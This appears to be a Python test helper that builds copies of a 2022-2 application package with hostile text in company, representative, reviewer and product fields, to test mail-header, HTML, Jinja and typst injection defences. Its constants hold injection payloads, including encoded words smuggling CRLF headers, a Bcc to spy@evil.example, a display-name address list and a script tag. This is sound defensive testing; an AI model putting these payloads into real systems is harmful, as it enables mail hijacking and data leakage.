"""Hostile round packages: the 2022-2 package with attacker-chosen text in the cells that reach
mail headers, notice bodies and certificate PDFs (company, representative, reviewer and product
names, e-mail addresses).

Only the text changes, never a BRN, role, size, date or score: the rules decide the round as
they decide 2022-2 (the four applications below are selected and their production confirmed, so
their companies get receipt, selection and certificate notices and a certificate PDF).
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Mapping
from pathlib import Path

from tests.conftest import REPO, ROUND_2022_2

CONFIG = REPO / "config" / "rounds" / "2022-2.toml"
PACKAGE = ROUND_2022_2 / "package"
ROUND = "2022-2"
NOW = "2022-07-20T10:00:00+09:00"  # after the deadline and the confirmed production

# CVE-2024-6923 (open on this pyenv 3.11.7): an encoded word whose decoded text holds a line
# break, written back by a re-folding `email` as a real header line.
ENCODED_WORD_Q = "=?utf-8?q?a=0AX-Injected:_1?="
ENCODED_WORD_B = "=?UTF-8?B?YQ0KWC1JbmplY3RlZDogMg==?="  # "a\r\nX-Injected: 2"
ENCODED_WORD_BCC = "=?utf-8?q?=0D=0ABcc:_spy@evil.example?= 주식회사"
# A display name that is an address list when pasted into a header with an f-string.
DISPLAY_LIST = '"a <spy@evil.example>, b"'
KOREAN_DISPLAY_LIST = "주식회사 한빛 <spy@evil.example>, 대성정밀"

# Markup of every language a name passes through: HTML, Jinja, typst.
SCRIPT = "<script>alert(1)</script>"
JINJA_EXPR = "{{ 7*7 }}"
JINJA_RAW = "{% raw %}"
ENTITY = "&amp;"
TYPST = '#set page(fill: red) ] $x$ #panic("x")'


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8"))


def hostile_package(folder: Path, *,
                    participants: Mapping[tuple[str, str], Mapping[str, str]] = {},
                    products: Mapping[str, str] = {},
                    reviewers: Mapping[str, Mapping[str, str]] = {}) -> Path:
    """A copy of the 2022-2 package under `folder` with cells replaced:
    `participants[(receipt_no, role)]` → {column: text} (seq 1), `products[receipt_no]` → product
    name, `reviewers[reviewer_id]` → {column: text}. Returns the package folder."""
    package = folder / "package"
    shutil.copytree(PACKAGE, package)
    rows = _read(package / "participants.csv")
    for row in rows:
        change = participants.get((row["receipt_no"], row["role"]))
        if change and row["seq"] == "1":
            row.update(change)
    _write(package / "participants.csv", rows)
    apps = _read(package / "applications.csv")
    for app in apps:
        app["product_name"] = products.get(app["receipt_no"], app["product_name"])
    _write(package / "applications.csv", apps)
    people = _read(package / "reviewers.csv")
    for person in people:
        person.update(reviewers.get(person["reviewer_id"], {}))
    _write(package / "reviewers.csv", people)
    return package


def participant_emails(package: Path) -> set[str]:
    """Every company's e-mail address in a package."""
    return {row["email"] for row in _read(package / "participants.csv")}


def participant_people(package: Path) -> set[str]:
    """Every representative's name and company address in a package (personal data)."""
    rows = _read(package / "participants.csv")
    return {row["representative"] for row in rows} | {row["address"] for row in rows}
